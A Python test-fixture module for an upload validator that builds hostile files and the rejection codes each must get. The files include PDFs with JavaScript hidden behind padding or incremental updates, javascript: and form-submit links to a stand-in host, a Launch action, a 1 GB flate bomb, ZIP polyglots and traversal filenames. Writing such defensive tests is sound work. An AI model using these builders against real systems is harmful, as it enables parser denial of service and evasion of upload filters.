"""Hostile and careless uploads, built from code, each with the verdict it must get.

Every case the document rules were tried on by hand is here: the ones that used to
slip through (scripts behind padding objects, acting links, polyglots, pages that
render blank, scans inside PDFs) and the ones already refused or accepted. A case
lists the exact codes the check must report; an empty tuple means accepted.
"""

from __future__ import annotations

import functools
import io
import struct
import zlib
from collections.abc import Callable, Sequence

import attrs
from PIL import Image

from accredkit.domain.documents.formats import MIB
from accredkit.testing import documents as make

__all__ = [
    "CASES",
    "Case",
    "flate_bomb_pdf",
    "incremental_script_pdf",
    "javascript_link_pdf",
    "padded_script_pdf",
    "shared_content_pdf",
]

_TEXT = b"BT /F1 14 Tf 56 780 Td (Diploma of the specialist, page one) Tj ET"


@attrs.frozen
class Case:
    """One upload and the codes its check must report (``()``: accepted)."""

    name: str
    build: Callable[[], bytes]
    filename: str
    expected: tuple[str, ...]
    kind: str = "other"


def _stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(body), extra, body)


def _xref_stream_pdf(objects: dict[int, bytes], packed: Sequence[int], root: int) -> bytes:
    """A PDF 1.5 file whose objects numbered in ``packed`` sit in one object stream."""
    header, body = bytearray(), bytearray()
    for number in packed:
        header += b"%d %d " % (number, len(body))
        body += objects[number] + b"\n"
    stream_number = max(objects) + 1
    xref_number = stream_number + 1
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    where: dict[int, int] = {}
    inside = set(packed)
    for number, obj in objects.items():
        if number not in inside:
            where[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    where[stream_number] = len(out)
    packed_data = zlib.compress(bytes(header) + b"\n" + bytes(body))
    extra = b" /Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(header) + 1)
    out += b"%d 0 obj\n%s\nendobj\n" % (stream_number, _stream(packed_data, extra))
    where[xref_number] = len(out)
    index = {n: i for i, n in enumerate(packed)}
    rows = [struct.pack(">BII", 0, 0, 0xFFFF)]
    for number in range(1, xref_number + 1):
        if number in index:
            rows.append(struct.pack(">BII", 2, stream_number, index[number]))
        elif number in where:
            rows.append(struct.pack(">BII", 1, where[number], 0))
        else:
            rows.append(struct.pack(">BII", 0, 0, 0))
    rows_data = zlib.compress(b"".join(rows))
    extra = b" /Type /XRef /Size %d /W [1 4 4] /Root %d 0 R /Filter /FlateDecode" % (
        xref_number + 1,
        root,
    )
    out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, _stream(rows_data, extra))
    out += b"startxref\n%d\n%%%%EOF\n" % where[xref_number]
    return bytes(out)


def padded_script_pdf(padding: int = 270_000, *, chain: bool = False) -> bytes:
    """JavaScript reachable from the catalogue behind ``padding`` objects in an object stream.

    ``chain`` hides the script as the ``/Next`` of a harmless-looking ``GoTo``.
    """
    direct = _padded_script_pdf(padding)
    return direct.replace(b"/OpenAction 6 0 R", b"/OpenAction 7 0 R", 1) if chain else direct


@functools.cache
def _padded_script_pdf(padding: int) -> bytes:
    first_pad = 10
    pads = " ".join(f"{n} 0 R" for n in range(first_pad, first_pad + padding)).encode()
    action = b"6 0 R"
    objects: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Padding 8 0 R /OpenAction " + action + b" >>",
        2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>",
        5: _stream(_TEXT),
        6: b"<< /S /JavaScript /JS (app.alert\\(1\\);) >>",
        7: b"<< /S /GoTo /D [4 0 R /Fit] /Next 6 0 R >>",
        8: b"[" + pads + b"]",
    }
    for number in range(first_pad, first_pad + padding):
        objects[number] = b"<< /P %d >>" % number
    packed = [6, 7, 8, *range(first_pad, first_pad + padding)]
    return _xref_stream_pdf(objects, packed, root=1)


def _annotated_pdf(annotation: bytes) -> bytes:
    return make.pdf(
        [_TEXT],
        extra_objects=[annotation],
        resources=b"",
        catalog_extra=b"",
    ).replace(b"/Contents 5 0 R", b"/Contents 5 0 R /Annots [6 0 R]", 1)


def javascript_link_pdf() -> bytes:
    """A full-page link whose address is ``javascript:``."""
    return _annotated_pdf(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] "
        b"/A << /S /URI /URI (  JavaScript:app.alert\\(1\\)) >> >>"
    )


def submit_form_pdf() -> bytes:
    """A link that submits the form to a remote address."""
    return _annotated_pdf(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
        b"/A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/x) >> >> >>"
    )


def incremental_script_pdf() -> bytes:
    """A clean text PDF, then an incremental update whose new catalogue opens a script."""
    original = make.text_pdf()
    previous = int(original.rsplit(b"startxref", 1)[1].split()[0])
    out = bytearray(original)
    catalog_at = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 99 0 R >>\nendobj\n"
    script_at = len(out)
    out += b"99 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\);) >>\nendobj\n"
    xref_at = len(out)
    out += b"xref\n1 1\n%010d 00000 n \n99 1\n%010d 00000 n \n" % (catalog_at, script_at)
    out += b"trailer\n<< /Size 100 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        previous,
        xref_at,
    )
    return bytes(out)


def _page(content: bytes) -> bytes:
    return make.pdf([content])


def _image_pdf(jpeg: bytes) -> bytes:
    return make.scanned_pdf([jpeg])


def _grey_jpeg(width: int, height: int, shade: int = 255) -> bytes:
    out = io.BytesIO()
    Image.new("L", (width, height), shade).save(out, format="JPEG", quality=90)
    return out.getvalue()


def repeated_deflate(chunk: bytes, count: int) -> bytes:
    """A zlib stream of ``chunk`` repeated ``count`` times, made without inflating it.

    A full flush resets the compressor, so every chunk after the first compresses to
    the same bytes: one block is compressed and copied, and the checksum is computed
    over the chunks one by one.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(count):
        checksum = zlib.adler32(chunk, checksum)
    final = b"\x03\x00"  # an empty final block with fixed codes
    return b"\x78\xda" + first + block * (count - 1) + final + struct.pack(">I", checksum)


@functools.cache
def shared_content_pdf(pages: int = 10, megabytes: int = 70) -> bytes:
    """A small PDF whose pages all parse one content stream of ``megabytes`` MB."""
    line = b"0 0 m 1 1 l S\n" * 74_898  # 1 MiB, less a little
    body = repeated_deflate(line, megabytes)
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        _stream(body, b" /Filter /FlateDecode"),
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
        for _ in range(pages)
    ]
    return _plain_pdf(objects)


@functools.cache
def flate_bomb_pdf(megabytes: int = 1024) -> bytes:
    """A one-page PDF whose content stream inflates to ``megabytes`` MB of zeros."""
    body = repeated_deflate(bytes(MIB), megabytes)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        _stream(body, b" /Filter /FlateDecode"),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>",
    ]
    return _plain_pdf(objects)


def _plain_pdf(objects: Sequence[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _png_with_chunk(kind: bytes, payload: bytes) -> bytes:
    png = make.scan()
    end = png.rindex(b"IEND") - 4
    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
    chunk = struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)
    return png[:end] + chunk + png[end:]


def _jpeg_with_comment(payload: bytes) -> bytes:
    jpeg = make.scan(fmt="JPEG")
    segment = b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload
    return jpeg[:2] + segment + jpeg[2:]


def _small_zip() -> bytes:
    return make.zip_bytes({"run.sh": b"#!/bin/sh\necho pwned\n"})


_SCAN_JPEG = functools.cache(lambda: make.scan(1240, 1754, fmt="JPEG"))


def _scanner_jpeg_pdf() -> bytes:
    """A scanned PDF whose JPEG carries EXIF and a comment, as scanners write them."""
    exif = Image.Exif()
    exif[0x0110] = "Registry scanner 3000"  # the camera/scanner model
    out = io.BytesIO()
    with Image.open(io.BytesIO(_SCAN_JPEG())) as image:
        image.save(out, format="JPEG", quality=90, exif=exif.tobytes(), comment=b"front desk")
    return make.scanned_pdf([out.getvalue()])


def _flate_scan_pdf() -> bytes:
    """A scanned page stored losslessly: Flate with a PNG predictor, as PNG-to-PDF tools do."""
    with Image.open(io.BytesIO(_SCAN_JPEG())) as image:
        grey = image.convert("L")
    width, height = grey.size
    samples = grey.tobytes()
    rows = b"".join(b"\x00" + samples[y * width : (y + 1) * width] for y in range(height))
    image_object = _stream(
        zlib.compress(rows),
        b" /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Filter /FlateDecode"
        b" /DecodeParms << /Predictor 15 /Columns %d /Colors 1 >>" % (width, height, width),
    )
    return make.pdf(
        [b"q 595 0 0 842 0 0 cm /Im0 Do Q"],
        extra_objects=[image_object],
        resources=b"/XObject << /Im0 6 0 R >>",
    )


_ACTIVE = ("document.active_content",)
_BLANK = ("document.blank_page",)
_TOO_COMPLEX_ACTIVE = ("document.too_complex", "document.active_content")

CASES: tuple[Case, ...] = (
    # Used to slip through -----------------------------------------------------------
    # Out of budget, refused; the /OpenAction the raw scan saw is reported too.
    Case("script behind padding (OpenAction)", padded_script_pdf, "a.pdf", _TOO_COMPLEX_ACTIVE),
    Case(
        "script behind padding (GoTo → Next)",
        lambda: padded_script_pdf(chain=True),
        "a.pdf",
        _TOO_COMPLEX_ACTIVE,
    ),
    Case("script behind some padding", lambda: padded_script_pdf(3_000), "a.pdf", _ACTIVE),
    Case(
        "GoTo → Next script behind some padding",
        lambda: padded_script_pdf(3_000, chain=True),
        "a.pdf",
        _ACTIVE,
    ),
    Case("script added by an incremental update", incremental_script_pdf, "a.pdf", _ACTIVE),
    Case("full-page javascript: link", javascript_link_pdf, "a.pdf", _ACTIVE),
    Case("link submitting the form", submit_form_pdf, "a.pdf", _ACTIVE),
    Case(
        "PDF with a ZIP after %%EOF",
        lambda: make.text_pdf() + _small_zip(),
        "a.pdf",
        ("document.trailing_data", "document.polyglot"),
    ),
    Case(
        "PDF with HTML after %%EOF",
        lambda: make.text_pdf() + b"<html><script>alert(1)</script></html>\n",
        "a.pdf",
        ("document.trailing_data",),
    ),
    Case(
        "PNG with a ZIP in an ancillary chunk",
        lambda: _png_with_chunk(b"zzIP", _small_zip()),
        "a.png",
        ("document.polyglot",),
    ),
    Case(
        "JPEG with a ZIP in a comment",
        lambda: _jpeg_with_comment(_small_zip()),
        "a.jpg",
        ("document.polyglot",),
    ),
    Case(
        "scanned PDF whose JPEG hides a ZIP in a comment",
        lambda: _image_pdf(_jpeg_with_comment(_small_zip())),
        "a.pdf",
        ("document.polyglot",),
    ),
    Case("white text only", lambda: _page(b"1 g " + _TEXT), "a.pdf", _BLANK),
    Case(
        "invisible text (mode 3)",
        lambda: _page(b"BT 3 Tr /F1 14 Tf 56 780 Td (x y z) Tj ET"),
        "a.pdf",
        _BLANK,
    ),
    Case("one white rectangle", lambda: _page(b"1 g 0 0 595 842 re f"), "a.pdf", _BLANK),
    Case(
        "PDF of one blurred 200×150 image",
        lambda: make.scanned_pdf([make.scan(200, 150, fmt="JPEG", blur=3)]),
        "a.pdf",
        ("document.too_small", "document.too_blurry"),
    ),
    Case(
        "PDF of one all-white scanned page",
        lambda: _image_pdf(_grey_jpeg(1240, 1754)),
        "a.pdf",
        ("document.blank_page", "document.too_blurry"),
    ),
    Case(
        "pages sharing a 70 MB content stream",
        shared_content_pdf,
        "a.pdf",
        ("document.too_complex",),
    ),
    Case("1 GB flate bomb", flate_bomb_pdf, "a.pdf", ("document.too_complex",)),
    # Already refused ----------------------------------------------------------------
    Case("oversize PDF", lambda: make.padded_pdf(5 * MIB + 1), "a.pdf", ("document.too_large",)),
    Case(
        "ZIP named .pdf",
        _small_zip,
        "a.pdf",
        ("document.format_not_allowed", "document.type_mismatch"),
    ),
    Case(
        "PNG named .pdf",
        make.scan,
        "a.pdf",
        ("document.type_mismatch",),
    ),
    Case(
        "text file",
        lambda: b"hello\n" * 100,
        "a.txt",
        ("document.bad_name", "document.format_not_allowed"),
    ),
    Case("empty file", lambda: b"", "a.pdf", ("document.empty",)),
    Case("PNG bomb", make.huge_png, "a.png", ("document.too_many_pixels",)),
    Case("encrypted PDF", make.encrypted_pdf, "a.pdf", ("document.encrypted",)),
    Case(
        "encrypted PDF, empty password",
        lambda: make.encrypted_pdf(""),
        "a.pdf",
        ("document.encrypted",),
    ),
    Case("blurred JPEG", lambda: make.scan(fmt="JPEG", blur=3), "a.jpg", ("document.too_blurry",)),
    Case("blurred PNG", lambda: make.scan(blur=3), "a.png", ("document.too_blurry",)),
    Case("low-resolution photo", lambda: make.scan(400, 300), "a.png", ("document.too_small",)),
    Case(
        "all-white JPEG",
        lambda: _grey_jpeg(1240, 1754),
        "a.jpg",
        ("document.blank_page", "document.too_blurry"),
    ),
    Case("traversal name", make.text_pdf, "../a.pdf", ("document.bad_name",) * 2),
    Case("drive name", make.text_pdf, "C:a.pdf", ("document.bad_name",)),
    Case("bidi override name", make.text_pdf, "scan\u202efdp.pdf", ("document.bad_name",)),
    Case("JavaScript name tree", make.javascript_pdf, "a.pdf", _ACTIVE),
    Case("escaped JavaScript names", lambda: make.javascript_pdf(escaped=True), "a.pdf", _ACTIVE),
    Case("script in an object stream", make.object_stream_javascript_pdf, "a.pdf", _ACTIVE),
    Case("embedded file", make.embedded_file_pdf, "a.pdf", ("document.embedded_file",)),
    Case("OpenAction to a web address", make.open_action_pdf, "a.pdf", _ACTIVE),
    Case(
        "Launch action",
        lambda: make.open_action_pdf(b"<< /S /Launch /F (calc.exe) >>"),
        "a.pdf",
        _ACTIVE,
    ),
    Case("PDF without pages", lambda: make.pdf([]), "a.pdf", ("document.no_pages",)),
    Case("blank middle page", make.blank_page_pdf, "a.pdf", _BLANK),
    Case(
        "JPEG with a ZIP appended",
        make.polyglot_jpeg_zip,
        "a.jpg",
        ("document.trailing_data", "document.polyglot"),
    ),
    Case(
        "truncated JPEG",
        lambda: make.scan(fmt="JPEG")[:20_000],
        "a.jpg",
        ("document.unreadable",),
    ),
    Case(
        "damaged PDF",
        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 16,
        "a.pdf",
        ("document.unreadable",),
    ),
    # Accepted -----------------------------------------------------------------------
    Case("text PDF", lambda: make.text_pdf(pages=3), "a.pdf", (), "diploma"),
    Case("compressed text PDF", lambda: make.text_pdf(pages=2, compress=True), "a.pdf", ()),
    Case("scanned PDF", lambda: make.scanned_pdf([_SCAN_JPEG(), _SCAN_JPEG()]), "a.pdf", ()),
    Case("scanned PDF with scanner metadata", _scanner_jpeg_pdf, "a.pdf", ()),
    Case("scanned PDF, lossless (Flate) page image", _flate_scan_pdf, "a.pdf", ()),
    Case("PNG scan", make.scan, "a.png", (), "passport"),
    Case("JPEG scan", lambda: make.scan(fmt="JPEG"), "a.jpg", (), "passport"),
    Case("PNG with NUL padding", lambda: make.scan() + bytes(64), "a.png", ()),
    Case(
        "OpenAction to a page",
        lambda: make.open_action_pdf(b"<< /S /GoTo /D [4 0 R /Fit] >>"),
        "a.pdf",
        (),
    ),
)
